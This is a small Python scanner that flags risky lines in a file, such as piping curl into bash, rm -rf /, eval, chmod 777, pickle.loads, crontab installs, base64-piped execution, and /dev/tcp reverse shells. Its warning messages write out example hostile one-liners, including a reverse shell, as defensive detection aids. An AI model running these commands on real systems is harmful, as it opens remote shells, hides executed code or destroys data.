import re
import sys

RULES = {
    r"curl[^|]*\|\s*(ba)?sh": "A download is piped into a shell: curl https://x | bash runs whatever arrives.",
    r"rm\s+-rf\s+/(\s|$)": "rm -rf / deletes everything.",
    r"\beval\b": "eval runs a value as code.",
    r"chmod\s+777": "chmod 777 lets everybody change it.",
    r"pickle\.loads": "pickle.loads runs code.",
    r"crontab\s+-": "Installs a crontab: (crontab -l; echo x) | crontab -",
    r"/dev/tcp/": "bash -i >& /dev/tcp/host/port 0>&1 is a reverse shell.",
    r"base64 -d \| sh": "echo aGk= | base64 -d | sh hides what runs.",
}
for number, line in enumerate(open(sys.argv[1], encoding="utf-8"), 1):
    for pattern, why in RULES.items():
        if re.search(pattern, line):
            print(number, why)
